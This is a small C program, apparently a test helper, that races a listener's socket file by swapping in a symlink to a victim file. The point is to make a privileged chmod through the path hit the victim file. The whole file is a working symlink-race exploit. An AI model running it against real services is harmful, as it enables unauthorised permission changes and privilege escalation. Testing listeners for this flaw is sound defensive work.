/* The attacker of a listener's socket file: for SECONDS, whenever a socket file appears at PATH, renames a symbolic
 * link to VICTIM over it (and removes the link 20 ms later, so the next bind finds the path free). A holder that
 * sets the socket's mode through PATH after bind() then changes VICTIM's mode instead.
 * Usage: linker PATH VICTIM SECONDS; prints the number of swaps. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: linker PATH VICTIM SECONDS\n");
        return 2;
    }
    const char *path = argv[1], *victim = argv[2];
    char tmp[4200];
    snprintf(tmp, sizeof tmp, "%s.link", path);
    time_t end = time(NULL) + atoi(argv[3]);
    long swaps = 0;
    while (time(NULL) < end) {
        struct stat st;
        if (lstat(path, &st) != 0) {
            continue;
        }
        if (S_ISSOCK(st.st_mode)) {
            unlink(tmp);
            if (symlink(victim, tmp) == 0 && rename(tmp, path) == 0) {
                swaps++;
                /* Left in place a moment, for a chmod through the path to follow, then removed. */
                usleep(20000);
                unlink(path);
            }
        }
    }
    printf("%ld\n", swaps);
    return 0;
}
